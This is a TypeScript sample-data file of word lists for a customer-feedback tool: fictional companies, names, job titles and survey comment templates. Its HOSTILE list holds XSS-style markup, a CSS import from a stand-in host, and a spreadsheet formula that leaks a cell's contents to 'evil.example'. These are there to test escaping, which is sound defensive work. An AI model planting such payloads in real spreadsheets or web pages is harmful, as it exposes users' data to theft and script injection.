/** Word lists for the sample data: fictional companies, people and what customers say. */

export const COMPANY_STEMS = [
  'Acme', 'Globex', 'Initech', 'Umbrella', 'Stark', 'Wayne', 'Wonka', 'Hooli', 'Vandelay', 'Soylent', 'Cyberdyne',
  'Tyrell', 'Aperture', 'Oscorp', 'Pied Piper', 'Monarch', 'Nakatomi', 'Sterling', 'Prestige', 'Blue Sun', 'Dunder',
  'Bluth', 'Kramerica', 'Virtucon', 'Gekko', 'Oceanic', 'Nordwind', 'Lumen', 'Altair', 'Borealis', 'Cobalt', 'Quantum',
  'Evergreen', 'Summit', 'Harbor', 'Pinnacle', 'Redwood', 'Silverline', 'Northstar', 'Brightpath', 'Ironclad',
  'Meridian', 'Halcyon', 'Vertex', 'Zenith', 'Atlas', 'Juniper', 'Kestrel', 'Larkspur', 'Mistral', 'Orion', 'Polaris',
  'Saffron', 'Tundra', 'Vireo', 'Willow', 'Yarrow', 'Zephyr', 'Bauer', 'Müller', 'Société Lumière', 'Sørensen', 'Cañada',
];

export const COMPANY_INDUSTRIES = [
  'Logistics', 'Health', 'Analytics', 'Systems', 'Foods', 'Energy', 'Robotics', 'Labs', 'Media', 'Bank', 'Insurance',
  'Software', 'Pharma', 'Motors', 'Retail', 'Airlines', 'Telecom', 'Security', 'Consulting', 'Capital', 'Biotech',
  'Hotels', 'Freight', 'Studios', 'Materials',
];

export const LEGAL_SUFFIXES = ['', '', '', 'Inc', 'Inc.', 'LLC', 'Ltd', 'GmbH', 'S.A.', 'Corporation', 'plc', 'BV', 'AG', 'Pty Ltd', 'SAS'];

export const TLDS = ['com', 'com', 'com', 'io', 'de', 'co.uk', 'fr', 'net'];

export const FIRST_NAMES = [
  'Ann', 'Bob', 'Chen', 'Dana', 'Eli', 'Fatima', 'George', 'Hana', 'Ivan', 'Jia', 'Kofi', 'Lena', 'Mateo', 'Nadia',
  'Omar', 'Priya', 'Quinn', 'Rosa', 'Sven', 'Tariq', 'Uma', 'Victor', 'Wen', 'Ximena', 'Yusuf', 'Zoë', 'Åsa', 'José',
  'Siobhan', 'Björn', 'Mei', 'Arjun', 'Chloé', 'Dmitri', 'Ngozi', 'Hiroshi',
];

export const LAST_NAMES = [
  'Lee', 'Smith', 'Garcia', 'Nguyen', 'Okafor', 'Müller', 'Rossi', 'Kim', 'Patel', 'Cohen', 'Dubois', 'Silva',
  "O'Brien", 'Novak', 'Tanaka', 'Haddad', 'Johansson', 'Kowalski', 'Mensah', 'Fernández', 'Schmidt', 'Ivanova',
  'Wright', 'Hughes', 'Alvarez', 'Brown', 'Costa', 'Fischer',
];

export type SampleRole = 'executive' | 'decision_maker' | 'influencer' | 'end_user';

/** Values of `respondent_role` as CRMs and survey tools hold them, by the role they mean. */
export const ROLE_SYNONYMS: Record<SampleRole, string[]> = {
  executive: ['Exec', 'Executive', 'C-level'],
  decision_maker: ['Economic buyer', 'Decision Maker', 'Buyer'],
  influencer: ['Champion', 'Admin', 'Influencer'],
  end_user: ['User', 'End user'],
};

/** Job titles, by the role the title rules give them. */
export const TITLES: Record<SampleRole, string[]> = {
  executive: ['CEO', 'CFO', 'CTO', 'COO', 'VP Engineering', 'Vice President, Sales', 'Chief Customer Officer', 'President'],
  decision_maker: ['Head of Procurement', 'Director of IT', 'Head of Operations', 'Procurement Specialist', 'Director, Customer Support'],
  influencer: ['Support Manager', 'Team Lead', 'System Administrator', 'Engineering Manager', 'Product Lead'],
  end_user: ['Data Analyst', 'Software Engineer', 'Support Agent', 'Accountant', 'Customer Success Specialist', 'Designer'],
};

export const FEATURES = [
  'reporting', 'the API', 'SSO', 'the mobile app', 'dashboards', 'billing', 'search', 'CSV exports', 'onboarding',
  'support response times', 'the Salesforce integration', 'permissions', 'notifications', 'the new editor', 'uptime',
];

export const PRAISE = [
  'Love {feature}, it saves us hours every week.',
  'Great product and great people. {feature} just works.',
  'Support is fast and friendly.',
  'We rolled it out to the whole team and everyone uses it daily.',
  'Très bien, {feature} est excellent 👍',
  'Best tool in our stack. Keep going!',
  'Reliable, simple, and {feature} keeps getting better.',
];

export const NEUTRAL = [
  'It does the job.',
  'Good overall, but {feature} could be faster.',
  'Fine. Pricing is a bit high for what we use.',
  'Solid, though we miss a few things in {feature}.',
  'OK so far; still learning it.',
  'No strong feelings either way.',
];

export const COMPLAINTS = [
  '{feature} is broken half the time.',
  'Too slow. {feature} takes forever to load.',
  'We were promised {feature} months ago and it is still not there.',
  'Support closed my ticket about {feature} without fixing anything.',
  'The price went up again and {feature} got worse, not better.',
  'Constant outages, "we are looking into it" is not an answer.',
  'Hard to use; my team, after two months, still avoids it.',
];

export const MULTILINE = [
  'Three things:\n1. {feature} is slow\n2. exports break on large files\n3. the docs are out of date',
  'Overall happy.\n\nWould love better {feature}, though.',
  'Pros: {feature}\nCons: price, "enterprise" plan limits',
];

/** Text that must be shown as text: markup-like and spreadsheet-formula-like comments. */
export const HOSTILE = [
  '<img src=x onerror=alert(1)> love it',
  '<script>alert("nps")</script> meh',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click here")',
  '=1+2',
  '+SUM(A1:A9) great tool',
  '@import url(evil.css) nice',
  '"><b>bold</b> & <i>italic</i>',
];

export const ACTION_TITLES = [
  'Call {name} about {feature}',
  'Escalate {feature} issue to product',
  'Schedule an executive business review',
  'Offer a training session on {feature}',
  'Send {name} the {feature} roadmap',
  'Review support tickets about {feature}',
];

export const OWNERS = ['Dana Whitfield', 'Marco Ruiz', 'Aiko Sato', 'Priyanka Rao', 'Tom Becker', 'Grace Obi'];

/** How surveys are sent, as exports spell it (the importer maps the synonyms). */
export const SURVEY_CHANNELS = ['email', 'email', 'email', 'E-mail', 'in-app', 'In App', 'web', 'link', 'sms', 'phone'];
/** Review sites: answers that arrive without a survey being sent. */
export const REVIEW_SITES = ['G2', 'Capterra', 'Trustpilot'];
